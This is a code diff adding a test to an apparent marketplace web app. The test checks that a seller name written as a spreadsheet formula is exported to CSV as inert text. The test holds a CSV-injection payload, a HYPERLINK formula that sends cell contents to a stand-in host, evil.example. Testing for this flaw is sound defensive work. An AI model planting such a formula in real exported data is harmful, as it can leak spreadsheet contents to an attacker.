@@ -206,3 +206,15 @@ def test_given_facts_when_the_trust_report_is_read_then_it_shows_platform_rates_
     assert 'data-figure="defect_rate">100' in html
     assert Client().get("/trust/XX/").status_code == 404
     assert api.get("/api/v1/trust/XX").expect(422)["code"] == "unknown_market"
+
+
+def test_given_a_seller_named_like_a_formula_when_its_quality_row_is_exported_then_the_cell_is_text(
+    facts, staff_client, s1
+):
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    type(s1).objects.filter(pk=s1.pk).update(display_name=formula)
+    services.refresh(at=NOW)
+    response = staff_client.get("/staff/insights/seller_quality.csv?weeks=4")
+    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
+    assert "'" + formula in cells
+    assert not [c for c in cells if c[:1] in {"=", "+", "@", "\t", "\r"}]
